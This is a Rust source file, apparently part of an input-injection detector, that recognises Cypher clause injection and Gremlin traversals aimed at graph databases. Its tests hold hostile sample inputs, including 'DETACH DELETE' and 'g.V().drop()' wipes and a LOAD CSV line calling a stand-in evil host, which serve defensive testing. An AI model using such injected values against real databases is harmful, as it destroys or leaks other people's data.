//! Queries of graphs: does the text leave its value for a clause of Cypher, or walk a graph as Gremlin does?

use super::{Hit, Text, prose};
use crate::decision::Class;

pub(super) fn detect(text: &Text<'_>) -> Option<Hit> {
    let whole = text.lower.trim_ascii();
    let hit = |at: usize, why: &'static str| Some(Hit { class: Class::NoSql, at, why: why.into() });
    if whole.starts_with(b"g.v(") || whole.starts_with(b"g.e(") || whole.starts_with(b"g.addv(") {
        return if is_walk(whole) { hit(0, "a walk through a graph, or a change of it") } else { None };
    }
    // A comment of Cypher takes off what the query had behind the value.
    let cut = whole.len() <= 1024 && whole.ends_with(b"//");
    if cut && let Some(at) = clause(text.lower) {
        return hit(at, "the value is closed and a clause of Cypher begins");
    }
    None
}

/// `g.V().drop()`: calls in a row, and no sentence around.
fn is_walk(whole: &[u8]) -> bool {
    let calls = memchr::memmem::find_iter(whole.get(..256).unwrap_or(whole), b").").count();
    calls > 0 && whole.ends_with(b")") && prose::is_code(whole)
}

/// Where a quote is left for a clause.
fn clause(lower: &[u8]) -> Option<usize> {
    memchr::memchr2_iter(b'\'', b'"', lower).find(|at| {
        let rest = lower.get(at + 1..).unwrap_or_default();
        let closes = rest.iter().take(8).take_while(|b| matches!(b, b')' | b'}' | b']' | b' ')).count();
        let rest = rest.get(closes..).unwrap_or_default();
        let length = rest.iter().take(12).take_while(|b| b.is_ascii_lowercase()).count();
        let (word, rest) = rest.split_at_checked(length).unwrap_or_default();
        closes > 0 && rest.first().is_none_or(u8::is_ascii_whitespace) && CLAUSES.contains(&word)
    })
}

const CLAUSES: &[&[u8]] = &[
    b"return",
    b"match",
    b"optional",
    b"detach",
    b"delete",
    b"set",
    b"with",
    b"load",
    b"call",
    b"union",
    b"merge",
    b"create",
    b"remove",
    b"foreach",
    b"unwind",
    b"where",
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inject::sample;

    #[test]
    fn clauses_and_walks() {
        for text in [
            "' RETURN 1 UNION MATCH (n) DETACH DELETE n //",
            "'}) MATCH (n) DETACH DELETE n//",
            "x\"}) RETURN 1 //",
            "') LOAD CSV FROM 'http://evil.example/' AS x RETURN x //",
            "g.V().drop()",
            "g.V().hasLabel('user').valueMap()",
            "g.addV('x').property('a', 'b')",
        ] {
            assert!(sample(detect, text), "{text}");
        }
    }

    #[test]
    fn prose_and_paths() {
        for text in [
            "g.V() is where a walk begins",
            "g.V().drop() removes everything, careful",
            "g.V()",
            "it's set // for now //",
            "see https://example.com//",
            "'}) RETURN 1",
            "the users' returns //",
        ] {
            assert!(!sample(detect, text), "{text}");
        }
    }
}
